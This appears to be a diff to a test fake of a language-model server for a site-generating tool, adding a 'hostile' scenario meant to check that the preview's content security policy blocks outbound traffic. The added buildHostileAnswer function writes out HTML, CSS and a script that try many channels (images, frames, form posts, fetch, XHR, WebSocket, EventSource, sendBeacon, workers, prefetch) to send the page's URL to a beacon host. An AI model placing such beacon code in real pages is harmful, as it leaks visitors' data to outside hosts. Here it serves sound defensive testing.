@@ -11,7 +11,8 @@ import type { AddressInfo, Socket } from "node:net";
  * drop (socket destroyed mid-answer), truncate (ends mid-answer, no finish), garbage (a
  * malformed frame), stall (a few tokens, then silence until the client gives up), hang (no
  * response at all), bad-plan (prose instead of JSON; bad-plan-once: only the first time),
- * hostile (a site whose script attacks the workspace: forged frame messages, then a real error).
+ * hostile (a site whose script attacks the workspace: forged frame messages, then a real error;
+ * with `beacon=<url>` in the prompt, instead a site that tries every way out to that url).
  *
  * `hold()` makes every answer wait (after the request is recorded) until the returned release is
  * called, so a test can keep a generation running for as long as it needs, without timing.
@@ -96,9 +97,49 @@ function buildPage(count: number): string {
   return `<header class="site-header">\n  <nav class="nav"><a href="#feature-1">Menu</a> <button class="menu-toggle" aria-expanded="false">☰</button></nav>\n</header>\n<main>\n${sections.join("\n")}\n</main>\n<footer class="site-footer"><p>© Crumb &amp; Co</p></footer>`;
 }
 
+/**
+ * A hostile site: markup, styles and a script that each try to reach `beacon` (images, styles,
+ * fonts, frames, forms, fetch, XHR, WebSocket, EventSource, sendBeacon, workers), carrying the
+ * page's own URL. When every attempt has settled the script marks the body `data-hostile="done"`
+ * and writes what it saw. It does not navigate itself (CSP cannot stop that; see PREVIEW_CSP).
+ */
+function buildHostileAnswer(kind: FakeKind, beacon: string): string {
+  if (kind === "html") {
+    return "```html\n" + `<main><h1 id="hostile">Totally harmless</h1><img src="${beacon}/img" alt=""><iframe src="${beacon}/frame"></iframe>` +
+      `<form id="leak" action="${beacon}/form" method="post"><input name="x" value="1"></form><video src="${beacon}/video"></video></main>` + "\n```";
+  }
+  if (kind === "css") return `@import url("${beacon}/import.css");\n@font-face { font-family: leak; src: url("${beacon}/font"); }\nbody { background: url("${beacon}/bg"); font-family: leak; }`;
+  if (kind === "js") {
+    return `(function () {
+  var b = ${JSON.stringify(beacon)} + "/js?u=" + encodeURIComponent(location.href);
+  var tries = [];
+  function settle(p) { tries.push(Promise.resolve(p).then(function () {}, function () {})); }
+  settle(fetch(b + "&via=fetch", { mode: "no-cors" }));
+  settle(new Promise(function (done) { var x = new XMLHttpRequest(); x.onloadend = done; try { x.open("GET", b + "&via=xhr"); x.send(); } catch (e) { done(); } }));
+  settle(new Promise(function (done) { var i = new Image(); i.onload = i.onerror = done; i.src = b + "&via=img"; }));
+  settle(new Promise(function (done) { try { var w = new WebSocket(b.replace(/^http/, "ws") + "&via=ws"); w.onerror = w.onclose = done; } catch (e) { done(); } }));
+  settle(new Promise(function (done) { try { var e = new EventSource(b + "&via=sse"); e.onerror = function () { e.close(); done(); }; } catch (x) { done(); } }));
+  try { navigator.sendBeacon(b + "&via=beacon", "x"); } catch (e) {}
+  try { new Worker(b + "&via=worker"); } catch (e) {}
+  try { var l = document.createElement("link"); l.rel = "prefetch"; l.href = b + "&via=prefetch"; document.head.appendChild(l); } catch (e) {}
+  try { document.getElementById("leak").submit(); } catch (e) {}
+  Promise.all(tries).then(function () {
+    var p = document.createElement("p");
+    p.id = "hostile-report";
+    p.textContent = location.href;
+    document.body.appendChild(p);
+    document.body.setAttribute("data-hostile", "done");
+  });
+})();`;
+  }
+  return buildAnswer({ kind, messages: [], scenario: "ok" });
+}
+
 /** What a well-behaved model would answer to each of the engine's requests. */
 function buildAnswer({ kind, messages, scenario }: { kind: FakeKind; messages: FakeRequest["messages"]; scenario: string }): string {
   const user = messages.filter((m) => m.role === "user").map((m) => m.content).join("\n");
+  const beacon = /beacon=(http:\/\/[\w.:]+)/.exec(user)?.[1];
+  if (scenario === "hostile" && beacon && kind !== "plan") return buildHostileAnswer(kind, beacon);
   if ((kind === "plan" || kind === "edit-plan") && scenario.startsWith("bad-plan")) return "Sure! I would build a hero, a menu and a contact form.";
   if (kind === "plan") {
     return '```json\n{"sections": ["hero", "features", "pricing", "contact"], "style": "Calm blue palette, generous whitespace, rounded cards", "interactivity": "Mobile menu toggle and smooth scrolling"}\n```';
